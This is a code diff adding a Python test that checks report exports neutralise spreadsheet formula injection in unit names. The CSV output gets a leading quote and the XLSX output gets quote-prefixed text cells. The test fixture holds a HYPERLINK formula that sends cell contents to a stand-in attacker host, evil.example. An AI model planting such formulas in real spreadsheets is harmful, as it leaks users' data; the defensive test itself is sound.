@@ -49,6 +49,29 @@ def test_xlsx_reads_back(report):
     assert sheet.cell(row=3, column=header.index("completion_rate") + 1).number_format == "0.0%"
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_a_formula_like_unit_name_is_inert_in_the_csv_and_the_xlsx(demo):
+    """Issue 16 item 7: text cells in XLSX, a leading quote in CSV (OWASP)."""
+    seeded = seed_report_cases(demo)
+    seeded["units"]["南山乡卫生院"].name = FORMULA
+    seeded["units"]["县人民医院"].name = "@SUM(1+1)"
+    demo.commit()
+    report = compute_rates(demo, NOVEMBER, now=NOW, calendar=CALENDAR, grouping=Grouping.UNIT)
+    text = render_rates_csv(report).decode("utf-8-sig")
+    units = [row["unit"] for row in csv.DictReader(StringIO(text))]
+    assert "'" + FORMULA in units and "'@SUM(1+1)" in units and "城关镇卫生院" in units
+    assert FORMULA not in units
+    sheet = load_workbook(BytesIO(render_rates_xlsx(report)))["rates"]
+    cells = {cell.value: cell for (cell,) in sheet.iter_rows(min_row=3, max_col=1)}
+    for name in (FORMULA, "@SUM(1+1)"):
+        assert cells[name].data_type == "s" and cells[name].quotePrefix
+    assert not cells["城关镇卫生院"].quotePrefix
+    # The numbers stay numbers.
+    assert isinstance(sheet.cell(row=3, column=3).value, int)
+
+
 def test_bulletin_docx_prints_units_criticisms_overdue_and_commendations(demo):
     seeded = seed_report_cases(demo)
     c10 = seeded["cases"]["c10"]
